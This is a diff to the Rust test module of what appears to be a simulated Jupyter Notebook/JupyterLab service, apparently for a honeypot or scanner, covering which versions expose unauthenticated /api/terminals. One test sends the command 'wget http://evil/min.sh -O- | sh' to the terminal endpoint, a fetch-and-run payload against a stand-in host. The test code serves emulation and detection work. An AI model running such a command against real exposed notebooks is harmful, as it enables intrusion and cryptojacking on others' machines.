@@ -180,8 +180,9 @@ impl_webapp!(Jupyter);
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::traits::{get, post, WebApp};
+    use crate::traits::{Driver, WebApp};
     use crate::version::release_history;
+    const DRIVER: Driver = Driver::new();
 
     fn notebook_at(triple: (u16, u16, u16)) -> Jupyter {
         let v = *release_history(AppId::JupyterNotebook)
@@ -199,7 +200,7 @@ mod tests {
     fn old_notebook_is_open_by_default() {
         let mut app = notebook_at((4, 2, 0));
         assert!(app.is_vulnerable());
-        let body = get(&mut app, "/api/terminals").response.body_text();
+        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
         assert!(body.contains("Jupyter Notebook"));
     }
 
@@ -207,7 +208,7 @@ mod tests {
     fn notebook_43_requires_token() {
         let mut app = notebook_at((4, 3, 0));
         assert!(!app.is_vulnerable());
-        let out = get(&mut app, "/api/terminals");
+        let out = DRIVER.get(&mut app, "/api/terminals");
         assert_eq!(out.response.status.as_u16(), 403);
         assert!(!out.response.body_text().contains("Jupyter Notebook"));
     }
@@ -218,7 +219,7 @@ mod tests {
         let cfg = AppConfig::vulnerable_for(AppId::JupyterNotebook, &v);
         let mut app = Jupyter::new(AppId::JupyterNotebook, v, cfg);
         assert!(app.is_vulnerable());
-        let body = get(&mut app, "/api/terminals").response.body_text();
+        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
         assert!(body.contains("Jupyter Notebook"));
     }
 
@@ -227,7 +228,7 @@ mod tests {
         let v = *release_history(AppId::JupyterLab).last().unwrap();
         let cfg = AppConfig::vulnerable_for(AppId::JupyterLab, &v);
         let mut app = Jupyter::new(AppId::JupyterLab, v, cfg);
-        let body = get(&mut app, "/api/terminals").response.body_text();
+        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
         assert!(body.contains("JupyterLab"));
         assert!(!body.contains("Jupyter Notebook"));
     }
@@ -235,9 +236,9 @@ mod tests {
     #[test]
     fn terminal_executes_commands() {
         let mut app = notebook_at((4, 2, 0));
-        let out = post(&mut app, "/api/terminals", "");
+        let out = DRIVER.post(&mut app, "/api/terminals", "");
         assert!(matches!(out.events[0], AppEvent::TerminalOpened));
-        let out = post(
+        let out = DRIVER.post(
             &mut app,
             "/api/terminals/1",
             "wget http://evil/min.sh -O- | sh",
@@ -256,20 +257,20 @@ mod tests {
             v,
             AppConfig::vulnerable_for(AppId::JupyterLab, &v),
         );
-        let out = post(&mut app, "/api/terminals/1", "shutdown");
+        let out = DRIVER.post(&mut app, "/api/terminals/1", "shutdown");
         assert!(matches!(out.events[0], AppEvent::ShutdownRequested));
     }
 
     #[test]
     fn login_page_brands_but_api_stays_markerless() {
         let mut app = notebook_at((4, 3, 0));
-        let out = get(&mut app, "/");
+        let out = DRIVER.get(&mut app, "/");
         assert!(out.response.is_followable_redirect());
         // Stage II can identify the product from the login page...
-        let login = get(&mut app, "/login").response.body_text();
+        let login = DRIVER.get(&mut app, "/login").response.body_text();
         assert!(login.contains("Jupyter Notebook"));
         // ...but the detection endpoint carries no marker when secured.
-        let api = get(&mut app, "/api/terminals").response.body_text();
+        let api = DRIVER.get(&mut app, "/api/terminals").response.body_text();
         assert!(!api.contains("Jupyter Notebook"));
     }
 }
